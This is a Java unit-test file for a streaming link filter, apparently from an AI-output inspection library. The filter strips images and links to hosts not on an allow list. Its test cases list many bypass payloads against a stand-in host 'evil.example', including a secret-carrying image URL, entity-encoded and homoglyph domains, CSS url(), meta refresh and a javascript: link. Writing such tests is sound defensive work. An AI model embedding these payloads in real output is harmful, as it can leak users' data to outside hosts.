package io.github.camelllm.inspect;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.github.camelllm.problem.ErrorCode;
import io.github.camelllm.problem.Problem;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class LinkFilterTest {

    private static final InspectRules.Links SHIPPED = InspectRules.DEFAULT.links();
    private static final InspectRules.Links ALL =
            new InspectRules.Links(Action.CHANGE, Action.CHANGE, Action.CHANGE, List.of(), false);
    private static final KnownHosts KNOWN = KnownHosts.of(List.of("good.example", "*.wiki.example"));

    private final Set<String> found = new TreeSet<>();

    private LinkFilter filter(InspectRules.Links links) {
        return new LinkFilter(links, KNOWN::has, found::add);
    }

    private String whole(InspectRules.Links links, String text) {
        LinkFilter filter = filter(links);
        return filter.push(text) + filter.end();
    }

    /** The result, which is the same however the text is cut. */
    private String filtered(InspectRules.Links links, String text) {
        String whole = whole(links, text);
        for (int i = 0; i <= text.length(); i++) {
            LinkFilter filter = filter(links);
            String out = filter.push(text.substring(0, i)) + filter.push(text.substring(i)) + filter.end();
            assertThat(out).as("cut at %d", i).isEqualTo(whole);
        }
        LinkFilter filter = filter(links);
        StringBuilder out = new StringBuilder();
        text.chars().forEach(c -> out.append(filter.push(Character.toString(c))));
        assertThat(out.append(filter.end()).toString()).isEqualTo(whole);
        return whole;
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![x](https://evil.example/?q=secret)",
                "![x](//evil.example/a)",
                "![x](HTTPS://EVIL.example/a)",
                "![x](\\\\evil.example/a)",
                "![x](/\\evil.example/a)",
                "![x](https:evil.example/a)",
                "![x](https:/evil.example/a)",
                "![x]( \n https://evil.example/a \"title\")",
                "![x](<https://evil.example/a b>)",
                "![x](&#104;ttps&colon;//evil.example/a)",
                "![x](https&#x3a;&sol;&sol;evil.example)",
                "![x](https\\://evil.example)",
                "![x](https://good.example@evil.example/)",
                "![x](https://good.example:80@evil.example/)",
                "![x](https://good.example\\@evil.example/)",
                "![x](https://good.example.evil.example/)",
                "![x](https://evil%2Eexample/)",
                "![x](https://g\u043e\u043ed.example/)",
                "![x](https://xn--gd-nbc.example/)",
                "![x](https://good.example\u3002evil.example/)",
                "![x](https://wiki.example/)",
                "![a [b](https://good.example) c](https://evil.example)",
                "![a](b)](https://evil.example)",
                "![a\n](https://evil.example)",
                "![a\r\n](https://evil.example)",
                "![a `[` ](https://evil.example)",
                "![x]\n\n[x]: https://evil.example/a",
                "[x]: https://evil.example/a\n\n![x]",
                "[x]:\nhttps://evil.example/a\n\n![x][]",
                "![x](javascript:alert(1))",
                "![x](data:image/svg+xml,abc)",
                "<img src=https://evil.example/a>",
                "<IMG\nSRC='//evil.example/a'>",
                "<img src=\"ht\ntps://evil.example/a\">",
                "<img src=\"&#x2f;/evil.example/a\">",
                "<img alt=\"x>\" src=\"https://evil.example/a\">",
                "<img a=b\"c alt=\"x>\" src=\"https://evil.example/a\">",
                "<img srcset=\"/a 1x, //evil.example/b 2x\">",
                "<img src=https://evil.example/a",
                "<div style=\"background:url(//evil.example/a)\">",
                "<div style=\"background:\\75rl(/a)\">",
                "<x <img src=//evil.example/a>>",
                "<b ![a](https:evil.example/a)>",
                "<a href=\"https://good.example\" style=\"background:url(https://evil.example)\">",
                "<base href=//evil.example><img src=a>",
                "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
                "<svg><image href=\"https://evil.example/a\"/></svg>",
                "<link rel=stylesheet href=//evil.example/a>",
                "<div>\n```\n<img src=https://evil.example/a>\n```",
                "- a\n  ```\n![x](https://evil.example)\n  ```",
                "````\ncode\n```\n````\n![x](https://evil.example)",
                "```\ncode\r```\r![x](https://evil.example)",
                "``` a`b\n![x](https://evil.example)",
                "```\ncode\n```\n![x](https://evil.example)"
            })
    void letsNothingAskAnUnknownHost(String text) {
        String out = filtered(SHIPPED, text);

        assertThat(found).contains(InspectRules.IMAGE);
        assertThat(out).isNotEqualTo(text);
        boolean kept = out.contains("evil") || out.contains("xn--gd") || out.contains("wiki");
        assertThat(kept && !out.contains("&lt;") && !out.contains("!\\[")).isFalse();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "No address at all! [not one] (either), a < b, List<String> and x ]( y",
                "![x](https://good.example/a)",
                "![x](HTTPS://GOOD.example:443/a \"t\")",
                "![x](https://en.wiki.example/a_(b))",
                "![x](/local.png) ![y](a/b.png#c) ![z](data:image/png;base64,AAAA)",
                "<img src=\"https://good.example/a\" alt=\"a > b\"> <br> </p> <!-- note -->",
                "<p style=\"color: red; margin: 0\">text</p>",
                "[text](https://evil.example/a) and <https://evil.example/b> and https://evil.example/c",
                "<a href=\"https://evil.example\">text</a>",
                "[1]: https://evil.example/source\n[2]: https://other.example",
                "```html\n<img src=\"https://evil.example/a.png\">\n![x](https://evil.example)\n```\nafter",
                "~~~\n![x](https://evil.example)\n~~~"
            })
    void leavesWhatAsksNobody(String text) {
        assertThat(filtered(SHIPPED, text)).isEqualTo(text);
        assertThat(found).isEmpty();
    }

    @Test
    void keepsTheTextAroundAnAddress() {
        assertThat(filtered(SHIPPED, "Look: ![a chart](https://evil.example/?d=(1) \"t\"), done"))
                .isEqualTo("Look: ![a chart](about:blank), done".replace("),", " \"t\"),"));
        assertThat(filtered(SHIPPED, "a <img src=//evil.example> b")).isEqualTo("a &lt;img src=//evil.example> b");
        assertThat(filtered(ALL, "[a](https://evil.example) <https://evil.example> <a href=//evil.example>b</a>"))
                .isEqualTo("[a](about:blank) [link removed] &lt;a href=//evil.example>b</a>");
        assertThat(filtered(ALL, "see https://evil.example/a?b, WWW.evil.example or https://good.example/a"))
                .isEqualTo("see [link removed] [link removed] or https://good.example/a");
        assertThat(found).containsExactly(InspectRules.IMAGE, InspectRules.LINK);
    }

    @Test
    void cutsWhatIsTooLongToWaitFor() {
        String path = "a".repeat(5000);
        assertThat(whole(SHIPPED, "![x](https://evil.example/" + path + ") end"))
                .isEqualTo("![x](about:blank) end");
        assertThat(whole(SHIPPED, "![x](https://good.example/" + path + ") end"))
                .isEqualTo("![x](https://good.example/" + path + ") end");
        assertThat(whole(SHIPPED, "![x](" + " ".repeat(5000) + "https://evil.example) end"))
                .startsWith("![x]\\( ");
        assertThat(whole(SHIPPED, "<img " + path + " src=//evil.example>")).startsWith("&lt;img ");
        for (String text : List.of(
                "<img " + path + " src=//evil.example> <b " + path + ">",
                "![x](https://evil.example/" + path + ") ![y](" + " ".repeat(3000) + "//evil.example)",
                "![x](<https://evil.example/" + path + "> https://evil.example/" + path)) {
            LinkFilter filter = filter(ALL);
            StringBuilder out = new StringBuilder();
            text.chars().forEach(c -> out.append(filter.push(Character.toString(c))));
            assertThat(out.append(filter.end()).toString()).isEqualTo(whole(ALL, text));
        }
    }

    @Test
    void holdsNothingBackThatCannotBeAnAddress() {
        LinkFilter filter = filter(SHIPPED);
        String piece = "plain text, with [brackets] and (more) of it";
        assertThat(filter.push(piece)).isSameAs(piece);
        assertThat(filter.push("go ![on](https://go")).isEqualTo("go ![on");
        assertThat(filter.push("od.example/a) and")).isEqualTo("](https://good.example/a) and");
        assertThat(filter.end()).isEmpty();
    }

    @Test
    void blocksOrOnlyFlags() {
        InspectRules.Links flag = new InspectRules.Links(Action.FLAG, Action.FLAG, Action.FLAG, List.of(), false);
        String text = "![x](https://evil.example) <img src=//evil.example> [a](//evil.example) http://evil.example";
        assertThat(filtered(flag, text)).isEqualTo(text);
        assertThat(found).containsExactly(InspectRules.IMAGE, InspectRules.LINK);

        InspectRules.Links block = new InspectRules.Links(Action.BLOCK, Action.LEAVE, Action.LEAVE, List.of(), false);
        assertThatThrownBy(() -> whole(block, text))
                .isInstanceOfSatisfying(Problem.class, problem -> assertThat(problem.code())
                        .isEqualTo(ErrorCode.CONTENT_POLICY_VIOLATION))
                .hasMessageContaining(InspectRules.IMAGE)
                .hasMessageNotContaining("evil");
    }

    /** A time that grows with the square would take minutes. */
    @Test
    @Timeout(30)
    void takesTimeInLineWithTheText() {
        for (String part : List.of(
                "![", "](", "](<", "]: ", "<a ", "<a b=\"", "<a<a>", "![x](https://a@", "&#58;", "```\n", "x")) {
            String text = part.repeat((1 << 19) / part.length());
            assertThat(whole(SHIPPED, text)).isNotEmpty();
            assertThat(whole(ALL, text)).isNotEmpty();
        }
    }

    @Test
    void isTheSameHoweverRandomTextIsCut() {
        String[] parts = {
            "![",
            "[",
            "]",
            "](",
            "]:",
            "(",
            ")",
            "<",
            ">",
            "<img ",
            "<a href=",
            "src=",
            "\"",
            "'",
            "https://",
            "//",
            "evil.example",
            "good.example",
            "\\",
            "&#58;",
            "```",
            "\n",
            "\n\n",
            "\r",
            " ",
            "text",
            "!",
            "=",
            "style=",
            "~~~",
            "`"
        };
        Random random = new Random(6);
        for (int round = 0; round < 3000; round++) {
            StringBuilder text = new StringBuilder();
            for (int i = random.nextInt(25); i >= 0; i--) {
                text.append(parts[random.nextInt(parts.length)]);
            }
            for (InspectRules.Links links : List.of(SHIPPED, ALL)) {
                String whole = whole(links, text.toString());
                LinkFilter filter = filter(links);
                StringBuilder out = new StringBuilder();
                for (int at = 0; at < text.length(); ) {
                    int to = Math.min(text.length(), at + 1 + random.nextInt(4));
                    out.append(filter.push(text.substring(at, to)));
                    at = to;
                }
                assertThat(out.append(filter.end()).toString()).as("%s", text).isEqualTo(whole);
            }
        }
    }
}
